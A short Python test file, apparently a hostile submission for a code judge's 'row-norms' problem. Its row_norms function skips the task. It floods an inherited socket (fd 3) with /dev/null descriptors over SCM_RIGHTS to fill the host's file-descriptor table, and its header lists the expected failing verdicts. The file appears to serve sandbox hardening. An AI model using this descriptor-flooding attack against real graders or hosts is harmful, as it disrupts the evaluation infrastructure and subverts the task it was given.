# goal: descriptors sent along, to fill the host's table
# problem: row-norms
# expect: Wrong Answer | Runtime Error | Time Limit Exceeded

import array
import os
import socket
import struct


def row_norms(X):
    channel = socket.socket(fileno=os.dup(3))
    fds = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(50)])
    head = struct.pack("<4sBxxxIQ", b"MLJ1", 13, 1000, 0)
    for byte in head:
        channel.sendmsg([bytes([byte])], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    return None
